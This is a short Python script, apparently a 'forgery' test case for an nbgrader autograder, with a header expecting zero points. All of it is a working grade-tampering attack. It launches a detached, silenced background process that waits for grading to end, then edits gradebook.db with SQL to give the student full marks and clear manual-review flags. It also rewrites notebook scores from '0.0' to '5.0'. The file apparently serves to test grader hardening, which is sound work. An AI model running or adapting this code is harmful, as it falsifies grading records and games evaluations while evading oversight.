# /// forgery
# tries = "Leaves a process behind that writes the gradebook when nbgrader is done."
# points = 0
# waits = 20
# ///
import subprocess
import sys

LATER = """
import pathlib, sqlite3, sys, time
here = pathlib.Path.cwd()
for folder in here.parents:
    if (folder / "gradebook.db").is_file():
        break
else:
    sys.exit()
for _ in range(15):
    time.sleep(1)
    with sqlite3.connect(folder / "gradebook.db") as gradebook:
        gradebook.execute(
            "UPDATE grade SET manual_score = "
            "(SELECT max_score FROM grade_cells WHERE id = grade.cell_id), needs_manual_grade = 0 "
            "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook AS n JOIN "
            "submitted_assignment AS a ON a.id = n.assignment_id WHERE a.student_id = ?)",
            [here.parent.name],
        )
    for notebook in here.glob("*.ipynb"):
        notebook.chmod(0o644)
        notebook.write_text(notebook.read_text().replace("0.0", "5.0"))
"""
subprocess.Popen(
    [sys.executable, "-c", LATER],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
